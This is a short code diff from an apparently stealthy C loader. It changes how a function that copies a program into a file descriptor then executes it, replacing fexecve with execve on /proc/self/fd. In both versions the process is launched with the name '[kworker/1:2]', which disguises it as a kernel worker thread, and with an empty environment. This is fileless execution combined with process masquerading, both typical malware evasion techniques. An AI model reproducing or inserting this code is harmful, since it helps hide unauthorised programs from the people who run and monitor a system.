@@ -19,9 +19,10 @@ static int memory(const char *program)
     while ((len = read(from, bytes, sizeof bytes)) > 0)
         if (write(to, bytes, len) != len)
             return 1;
-    char *argv[] = {"[kworker/1:2]", NULL}, *none[] = {NULL};
-    fexecve(to, argv, none);
-    perror("fexecve");
+    char path[32], *argv[] = {"[kworker/1:2]", NULL}, *none[] = {NULL};
+    snprintf(path, sizeof path, "/proc/self/fd/%d", to);
+    execve(path, argv, none);
+    perror(path);
     return 1;
 }
 
